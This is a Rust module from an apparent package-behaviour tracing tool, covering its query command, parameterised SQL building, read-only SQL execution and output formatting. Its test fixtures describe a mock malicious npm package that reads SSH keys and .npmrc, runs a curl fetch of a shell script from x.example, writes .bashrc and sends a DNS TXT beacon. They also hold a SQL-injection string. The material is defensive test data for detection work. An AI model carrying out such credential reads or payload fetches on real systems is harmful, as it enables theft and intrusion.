//! `pkgtrace query`: questions across the repository, answered from the
//! index. [`Filters`] become one SQL statement with bound parameters (a
//! filter's text is never SQL); [`sql`] runs a user's own statement on a
//! read-only connection.
//!
//! How filters combine: the package-version-phases that pass every filter
//! given are selected (`--phase start --dns '*'`: start phases with a DNS
//! query); each evidence filter (`--rule`/`--severity`, `--dns`,
//! `--connects`, `--exec`, `--file`) then gives one row per matching piece
//! of evidence. With none, each selected phase is one row (its status).

use std::path::Path;

use anyhow::{bail, Context as _, Result};
use rusqlite::types::Value as SqlValue;
use rusqlite::{Connection, OpenFlags};

use report::Severity;

/// What `pkgtrace query` asks. Every field that is set must hold.
#[derive(Clone, Debug, Default)]
pub struct Filters {
    /// A rule id (active findings only).
    pub rule: Option<String>,
    /// Active findings at least this severe.
    pub severity: Option<Severity>,
    /// A DNS name, as a glob.
    pub dns: Option<String>,
    /// `HOST`, `IP`, `HOST:PORT`, `IP:PORT` or `[IPv6]:PORT`.
    pub connects: Option<String>,
    /// A command line (argv joined by spaces), as a glob.
    pub exec: Option<String>,
    /// A path outside the package, as a glob.
    pub file: Option<String>,
    /// With `file`: only files written (or deleted, chmod-ed).
    pub write: bool,
    pub phase: Option<String>,
    pub ecosystem: Option<String>,
    /// `NAME` or `NAME@VERSION`; NAME may be a glob.
    pub package: Option<String>,
    pub status: Option<String>,
}

/// Rows of an answer: column names, then values.
#[derive(Debug, Default, PartialEq)]
pub struct Table {
    pub columns: Vec<String>,
    pub rows: Vec<Vec<SqlValue>>,
}

/// A user's glob as SQLite's GLOB: the same `*`, `?` and `[...]`; `**`
/// (any depth, as in other tools) is `*`, which already crosses `/`.
pub fn glob(pattern: &str) -> String {
    let mut g = pattern.to_string();
    while g.contains("**") {
        g = g.replace("**", "*");
    }
    g
}

/// `--connects`: (host or address, port).
fn split_endpoint(s: &str) -> Result<(String, Option<i64>)> {
    let port = |p: &str| p.parse::<u16>().map(i64::from).with_context(|| format!("--connects {s:?}: bad port {p:?}"));
    if let Some(rest) = s.strip_prefix('[') {
        let (ip, tail) = rest.split_once(']').with_context(|| format!("--connects {s:?}: unclosed ["))?;
        return Ok((ip.to_string(), tail.strip_prefix(':').map(port).transpose()?));
    }
    match s.matches(':').count() {
        1 => {
            let (h, p) = s.split_once(':').expect("one colon");
            Ok((h.to_string(), Some(port(p)?)))
        }
        _ => Ok((s.to_string(), None)),
    }
}

/// The statement and its parameters for `f`.
pub fn build(f: &Filters) -> Result<(String, Vec<SqlValue>)> {
    if f.write && f.file.is_none() {
        bail!("--write goes with --file GLOB");
    }
    let mut params: Vec<SqlValue> = Vec::new();
    let mut bind = |v: SqlValue| {
        params.push(v);
        format!("?{}", params.len())
    };
    // Conditions on the selected phase `s` (versions `v`, packages `k`).
    let mut wher = vec!["1".to_string()];
    if let Some(p) = &f.phase {
        wher.push(format!("s.phase = {}", bind(p.clone().into())));
    }
    if let Some(e) = &f.ecosystem {
        let e = e.parse::<report::Ecosystem>().map_err(|e| anyhow::anyhow!("{e}"))?;
        wher.push(format!("k.ecosystem = {}", bind(e.as_str().to_string().into())));
    }
    if let Some(p) = &f.package {
        // `@scope/name@1.0`: the version is after the last `@` that is not first.
        let (name, version) = match p.rfind('@').filter(|i| *i > 0) {
            Some(i) => (&p[..i], Some(&p[i + 1..])),
            None => (p.as_str(), None),
        };
        wher.push(format!("k.name GLOB {}", bind(glob(name).into())));
        if let Some(v) = version {
            wher.push(format!("v.version = {}", bind(v.to_string().into())));
        }
    }
    if let Some(st) = &f.status {
        wher.push(format!("s.status = {}", bind(st.clone().into())));
    }
    // Each evidence filter: its table, the row's kind and evidence, its condition.
    let mut evidence: Vec<(&str, &str, String, String)> = Vec::new();
    if f.rule.is_some() || f.severity.is_some() {
        let mut c = vec!["e.active = 1".to_string()];
        if let Some(r) = &f.rule {
            c.push(format!("e.rule = {}", bind(r.clone().into())));
        }
        if let Some(s) = f.severity {
            c.push(format!("e.severity_rank >= {}", bind((s as i64).into())));
        }
        evidence.push((
            "findings",
            "finding",
            "e.severity || ' ' || e.rule || ': ' || e.subject || coalesce(' (' || e.process || ')', '')".into(),
            c.join(" AND "),
        ));
    }
    if let Some(d) = &f.dns {
        let c = format!("e.name GLOB {}", bind(glob(&d.to_ascii_lowercase()).into()));
        evidence.push(("dns", "dns", "e.name || coalesce(' ' || e.type, '')".into(), c));
    }
    if let Some(to) = &f.connects {
        let (host, port) = split_endpoint(to)?;
        let h = bind(host.to_ascii_lowercase().into());
        let mut c = format!("(lower(e.host) = {h} OR lower(e.address) = {h})");
        if let Some(p) = port {
            c.push_str(&format!(" AND e.port = {}", bind(p.into())));
        }
        evidence.push((
            "connections",
            "connect",
            "e.protocol || ' ' || coalesce(e.host || ' ', '') || e.address || coalesce(':' || e.port, '') || coalesce(' ' || e.result, '')".into(),
            c,
        ));
    }
    if let Some(x) = &f.exec {
        let c = format!("e.argv GLOB {}", bind(glob(x).into()));
        evidence.push(("commands", "exec", "e.argv".into(), c));
    }
    if let Some(p) = &f.file {
        let mut c = format!("e.path GLOB {}", bind(glob(p).into()));
        if f.write {
            c.push_str(" AND e.write = 1");
        }
        evidence.push(("files", "file", "e.mode || ' ' || e.path".into(), c));
    }
    // Each evidence filter is evaluated once, over its whole table
    // (`MATERIALIZED`); a phase is selected when it is in every one. A
    // correlated EXISTS per phase would let SQLite scan a rule's rows
    // once per phase: seconds at 100,000 findings.
    let mut ctes: Vec<String> = Vec::new();
    for (i, (table, kind, ev, cond)) in evidence.iter().enumerate() {
        ctes.push(format!(
            "m{i} AS MATERIALIZED (SELECT e.version_id, e.phase, '{kind}' AS kind, {ev} AS evidence \
             FROM {table} e WHERE {cond})"
        ));
        wher.push(format!("(s.version_id, s.phase) IN (SELECT version_id, phase FROM m{i})"));
    }
    ctes.push(format!(
        "sel AS (SELECT s.version_id, s.phase, s.status, k.ecosystem, k.name, v.version \
         FROM phases s JOIN versions v ON v.id = s.version_id JOIN packages k ON k.id = v.package_id \
         WHERE {})",
        wher.join(" AND ")
    ));
    let head = "sel.ecosystem, sel.name, sel.version, sel.phase";
    let parts: Vec<String> = if evidence.is_empty() {
        vec![format!("SELECT {head}, 'status' AS kind, coalesce(sel.status, '') AS evidence FROM sel")]
    } else {
        (0..evidence.len())
            .map(|i| {
                format!(
                    "SELECT {head}, m{i}.kind, m{i}.evidence FROM sel JOIN m{i} \
                     ON m{i}.version_id = sel.version_id AND m{i}.phase = sel.phase"
                )
            })
            .collect()
    };
    let sql = format!(
        "WITH {} SELECT DISTINCT * FROM ({}) ORDER BY ecosystem, name, version, phase, kind, evidence",
        ctes.join(", "),
        parts.join(" UNION ALL ")
    );
    Ok((sql, params))
}

/// Answers `f` from the index at `path`.
pub fn run(path: &Path, f: &Filters) -> Result<Table> {
    let db = open_read_only(path)?;
    let (sql, params) = build(f)?;
    collect(&db, &sql, &params)
}

/// Runs a user's statement on a read-only connection: only one `SELECT`
/// (or `WITH ... SELECT`) statement; SQLite itself refuses writes too.
pub fn sql(path: &Path, statement: &str) -> Result<Table> {
    let first =
        statement.trim_start().split(|c: char| !c.is_ascii_alphabetic()).next().unwrap_or("").to_ascii_uppercase();
    if first != "SELECT" && first != "WITH" {
        bail!("--sql takes a read-only SELECT (or WITH ... SELECT) statement, not {first:?}");
    }
    let db = open_read_only(path)?;
    let stmt = db.prepare(statement).with_context(|| format!("invalid SQL: {statement}"))?;
    if !stmt.readonly() {
        bail!("--sql takes a read-only statement");
    }
    drop(stmt);
    collect(&db, statement, &[])
}

fn open_read_only(path: &Path) -> Result<Connection> {
    if !path.exists() {
        bail!("no index at {} (run `pkgtrace index --rebuild`)", path.display());
    }
    Connection::open_with_flags(path, OpenFlags::SQLITE_OPEN_READ_ONLY | OpenFlags::SQLITE_OPEN_NO_MUTEX)
        .with_context(|| format!("failed to open the index {}", path.display()))
}

fn collect(db: &Connection, sql: &str, params: &[SqlValue]) -> Result<Table> {
    let mut stmt = db.prepare(sql).with_context(|| format!("invalid SQL: {sql}"))?;
    let columns: Vec<String> = stmt.column_names().iter().map(|c| c.to_string()).collect();
    let n = columns.len();
    let rows = stmt
        .query_map(rusqlite::params_from_iter(params.iter()), |r| (0..n).map(|i| r.get::<_, SqlValue>(i)).collect())?
        .collect::<rusqlite::Result<Vec<Vec<SqlValue>>>>()?;
    Ok(Table { columns, rows })
}

/// A value as text (table and CSV cells).
pub fn cell(v: &SqlValue) -> String {
    match v {
        SqlValue::Null => String::new(),
        SqlValue::Integer(i) => i.to_string(),
        SqlValue::Real(r) => r.to_string(),
        SqlValue::Text(t) => t.clone(),
        SqlValue::Blob(b) => format!("<{} bytes>", b.len()),
    }
}

impl Table {
    /// Aligned columns with a header.
    pub fn to_text(&self) -> String {
        let cells: Vec<Vec<String>> = self.rows.iter().map(|r| r.iter().map(cell).collect()).collect();
        let mut widths: Vec<usize> = self.columns.iter().map(|c| c.chars().count()).collect();
        for r in &cells {
            for (w, c) in widths.iter_mut().zip(r) {
                *w = (*w).max(c.chars().count());
            }
        }
        let line = |r: &[String]| {
            let mut s = String::new();
            for (i, (c, w)) in r.iter().zip(&widths).enumerate() {
                if i + 1 == r.len() {
                    s.push_str(c);
                } else {
                    s.push_str(&format!("{c:<w$}  "));
                }
            }
            s.trim_end().to_string() + "\n"
        };
        let mut out = line(&self.columns.iter().map(|c| c.to_uppercase()).collect::<Vec<_>>());
        for r in &cells {
            out.push_str(&line(r));
        }
        out
    }

    /// One JSON object per row, in an array.
    pub fn to_json(&self) -> serde_json::Value {
        let rows = self.rows.iter().map(|r| {
            let obj = self.columns.iter().zip(r).map(|(c, v)| {
                let j = match v {
                    SqlValue::Null => serde_json::Value::Null,
                    SqlValue::Integer(i) => (*i).into(),
                    SqlValue::Real(f) => (*f).into(),
                    _ => cell(v).into(),
                };
                (c.clone(), j)
            });
            serde_json::Value::Object(obj.collect())
        });
        serde_json::Value::Array(rows.collect())
    }

    /// RFC 4180 CSV with a header.
    pub fn to_csv(&self) -> String {
        let field = |s: &str| {
            if s.contains([',', '"', '\n', '\r']) {
                format!("\"{}\"", s.replace('"', "\"\""))
            } else {
                s.to_string()
            }
        };
        let mut out = self.columns.iter().map(|c| field(c)).collect::<Vec<_>>().join(",") + "\r\n";
        for r in &self.rows {
            out.push_str(&(r.iter().map(|v| field(&cell(v))).collect::<Vec<_>>().join(",") + "\r\n"));
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::index::tests::report;
    use crate::index::Index;
    use serde_json::json;

    fn index() -> (tempfile::TempDir, std::path::PathBuf) {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("index.sqlite");
        let mut ix = Index::open(&path).unwrap();
        let finding = |rule: &str, sev: &str, subject: &str| json!({"rule": rule, "severity": sev, "subject": subject, "message": "m", "process": "npm → sh", "count": 1});
        let a = report(
            "npm",
            "evil",
            "1.0.0",
            json!([
              {"name": "install", "status": "completed", "findings": [
                  finding("read-ssh-private-key", "high", "$HOME/.ssh/id_rsa"),
                  finding("read-npmrc", "medium", "$HOME/.npmrc"),
                  {"rule": "noise", "severity": "critical", "subject": "x", "baseline": true}],
               "behaviour": {"files": [{"path": "$HOME/.ssh/id_rsa", "read": true}, {"path": "$HOME/.bashrc", "write": true}],
                             "commands": [{"argv": ["curl", "-s", "http://x.example/p.sh"], "exe": "/usr/bin/curl", "chain": "npm → sh"}],
                             "connections": [{"address": "10.0.0.1", "host": "x.example", "port": 443, "transport": "tcp", "result": "ok"}],
                             "dns": [{"name": "x.example", "type": "A"}]}},
              {"name": "start", "status": "timeout", "findings": [],
               "behaviour": {"files": [], "commands": [], "connections": [], "dns": [{"name": "beacon.evil.example", "type": "TXT"}]}}
            ]),
        );
        let b = report(
            "pypi",
            "fine",
            "2.0",
            json!([{"name": "install", "status": "completed", "findings": [finding("read-npmrc", "low", "$HOME/.npmrc")],
                    "behaviour": {"files": [{"path": "$HOME/.ssh/known_hosts", "read": true}], "commands": [], "connections": [], "dns": []}},
                   {"name": "start", "status": "completed", "findings": [], "behaviour": {"dns": []}}]),
        );
        ix.put("npm/evil/1.0.0", &a, None).unwrap();
        ix.put("pypi/fine/2.0", &b, None).unwrap();
        // A re-store replaces the version's rows.
        ix.put("pypi/fine/2.0", &b, None).unwrap();
        (dir, path)
    }

    fn ask(path: &Path, f: Filters) -> Vec<String> {
        run(path, &f).unwrap().rows.iter().map(|r| r.iter().map(cell).collect::<Vec<_>>().join("|")).collect()
    }

    #[test]
    fn every_filter_answers() {
        let (_d, p) = index();
        let f = Filters::default;
        assert_eq!(
            ask(&p, Filters { phase: Some("start".into()), dns: Some("*".into()), ..f() }),
            ["npm|evil|1.0.0|start|dns|beacon.evil.example TXT"]
        );
        assert_eq!(
            ask(&p, Filters { rule: Some("read-ssh-private-key".into()), ..f() }),
            ["npm|evil|1.0.0|install|finding|high read-ssh-private-key: $HOME/.ssh/id_rsa (npm → sh)"]
        );
        assert_eq!(ask(&p, Filters { severity: Some(Severity::Medium), ..f() }).len(), 2, "baseline is not counted");
        assert_eq!(ask(&p, Filters { severity: Some(Severity::Critical), ..f() }), Vec::<String>::new());
        assert_eq!(ask(&p, Filters { severity: Some(Severity::Low), ecosystem: Some("pip".into()), ..f() }).len(), 1);
        assert_eq!(
            ask(&p, Filters { connects: Some("x.example:443".into()), ..f() }),
            ["npm|evil|1.0.0|install|connect|tcp x.example 10.0.0.1:443 ok"]
        );
        assert_eq!(ask(&p, Filters { connects: Some("10.0.0.1".into()), ..f() }).len(), 1);
        assert_eq!(ask(&p, Filters { connects: Some("10.0.0.1:80".into()), ..f() }).len(), 0);
        assert_eq!(ask(&p, Filters { exec: Some("curl *".into()), ..f() }).len(), 1);
        assert_eq!(
            ask(&p, Filters { file: Some("$HOME/.ssh/*".into()), phase: Some("install".into()), ..f() }),
            ["npm|evil|1.0.0|install|file|r $HOME/.ssh/id_rsa", "pypi|fine|2.0|install|file|r $HOME/.ssh/known_hosts"]
        );
        assert_eq!(
            ask(&p, Filters { file: Some("**".into()), write: true, ..f() }),
            ["npm|evil|1.0.0|install|file|w $HOME/.bashrc"]
        );
        assert_eq!(ask(&p, Filters { status: Some("timeout".into()), ..f() }), ["npm|evil|1.0.0|start|status|timeout"]);
        assert_eq!(ask(&p, Filters { package: Some("fine@2.0".into()), ..f() }).len(), 2);
        assert_eq!(ask(&p, Filters { package: Some("fine@3".into()), ..f() }).len(), 0);
        // Combined: install phases that read an SSH key file and ran curl.
        let both = ask(&p, Filters { file: Some("$HOME/.ssh/id_*".into()), exec: Some("curl*".into()), ..f() });
        assert_eq!(both.len(), 2, "{both:?}");
        // Filter text is data, never SQL.
        assert_eq!(ask(&p, Filters { rule: Some("x' OR 1=1 --".into()), ..f() }).len(), 0);
    }

    #[test]
    fn sql_is_read_only() {
        let (_d, p) = index();
        let t = sql(&p, "SELECT name FROM package_versions ORDER BY name").unwrap();
        assert_eq!(t.rows.len(), 2);
        for bad in
            ["DELETE FROM findings", "  insert into dns values (1,'x','y',null,null)", "PRAGMA writable_schema=1"]
        {
            assert!(sql(&p, bad).is_err(), "{bad}");
        }
        let e = sql(&p, "WITH x AS (SELECT 1) DELETE FROM findings").unwrap_err().to_string();
        assert!(e.contains("read-only"), "{e}");
        assert_eq!(sql(&p, "SELECT count(*) FROM findings").unwrap().rows[0][0], SqlValue::Integer(4));
    }

    #[test]
    fn outputs() {
        let t = Table {
            columns: vec!["a".into(), "b".into()],
            rows: vec![vec![SqlValue::Integer(1), "x,\"y\"".to_string().into()]],
        };
        assert_eq!(t.to_csv(), "a,b\r\n1,\"x,\"\"y\"\"\"\r\n");
        assert_eq!(t.to_json(), json!([{"a": 1, "b": "x,\"y\""}]));
        assert_eq!(t.to_text(), "A  B\n1  x,\"y\"\n");
    }
}
